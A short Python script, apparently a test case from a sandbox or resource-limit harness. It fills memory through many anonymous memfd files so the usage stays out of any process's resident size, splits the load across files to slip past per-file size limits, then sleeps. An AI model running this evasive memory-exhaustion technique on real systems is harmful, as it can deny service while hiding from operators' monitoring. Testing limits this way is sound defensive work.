"""Wants memory that no process maps, so that nobody's resident size shows it; stops by itself at `mib`."""

import os
import time
from collections.abc import Callable


def attack(ready: Callable[[dict[str, object]], object], mib: str = "256") -> None:
    ready({})
    chunk = b"\xff" * (1 << 20)
    for _ in range(int(mib) // 16):  # many files: a limit on the size of one does not stop it
        hidden = os.memfd_create("hostile")
        for _ in range(16):
            os.write(hidden, chunk)
    time.sleep(300)


if __name__ == "__main__":
    __import__("_common").command(attack)
